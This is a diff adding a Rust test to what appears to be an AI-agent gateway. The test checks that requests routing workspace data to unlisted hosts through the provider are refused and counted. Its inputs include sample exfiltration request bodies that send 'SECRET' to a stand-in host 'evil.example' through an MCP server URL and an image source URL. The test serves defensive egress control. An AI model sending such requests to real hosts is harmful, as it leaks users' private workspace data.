@@ -1020,3 +1020,69 @@ async fn the_key_in_any_known_form_never_reaches_the_agent() {
     assert_eq!((status, failed), (200, false));
     assert_eq!(bytes, br#"{"type":"message","usage":{}}"#);
 }
+
+/// The provider is not a network path: a request whose `mcp_servers`, image source or
+/// `web_fetch` tool would have the provider fetch workspace data from a host the test does
+/// not list is refused with a 403 before anything leaves, and counted; a listed host goes.
+#[tokio::test]
+async fn a_request_that_has_the_provider_fetch_an_unlisted_host_is_refused() {
+    let calls = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let up = counting_upstream(Arc::clone(&calls), 0).await;
+    let gateway = Gateway::new(GatewayOptions::default());
+    let endpoint = gateway
+        .start(RunGateway {
+            upstream: up,
+            network: vec!["docs.example".into()],
+            ..RunGateway::default()
+        })
+        .await
+        .unwrap();
+    let url = format!("{}/v1/messages", endpoint.base_url());
+    for body in [
+        r#"{"model":"claude-sonnet-4-5","mcp_servers":[{"type":"url","url":"https://evil.example/mcp?d=SECRET","name":"x"}],"messages":[]}"#,
+        r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/p.png?d=SECRET"}}]}]}"#,
+        r#"{"model":"claude-sonnet-4-5","tools":[{"type":"web_fetch_20250910","name":"web_fetch","allowed_domains":["docs.example"]}],"messages":[]}"#,
+    ] {
+        let reply = client()
+            .request(post(url.clone(), "k", body))
+            .await
+            .unwrap();
+        assert_eq!(reply.status(), 403, "{body}");
+        let text = reply.into_body().collect().await.unwrap().to_bytes();
+        let text: serde_json::Value = serde_json::from_slice(&text).unwrap();
+        assert_eq!(text["error"]["type"], "permission_error");
+        assert!(
+            text["error"]["message"]
+                .as_str()
+                .is_some_and(|m| m.contains("asks the provider to fetch")),
+            "{text}"
+        );
+    }
+    assert_eq!(
+        calls.load(std::sync::atomic::Ordering::SeqCst),
+        0,
+        "nothing left"
+    );
+    let listed = r#"{"model":"claude-sonnet-4-5","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://docs.example/guide.pdf"}}]}]}"#;
+    let reply = client().request(post(url, "k", listed)).await.unwrap();
+    assert_eq!(reply.status(), 200);
+    let _ = reply.into_body().collect().await;
+    let traffic = endpoint.finish().await;
+    assert_eq!(
+        (
+            traffic.provider_fetches_refused,
+            traffic.refused,
+            traffic.failed
+        ),
+        (3, 3, 3),
+        "{traffic:?}"
+    );
+    assert_eq!(calls.load(std::sync::atomic::Ordering::SeqCst), 1);
+    assert!(
+        traffic
+            .refused_first
+            .as_deref()
+            .is_some_and(|r| r.contains("mcp_servers[0]")),
+        "{traffic:?}"
+    );
+}
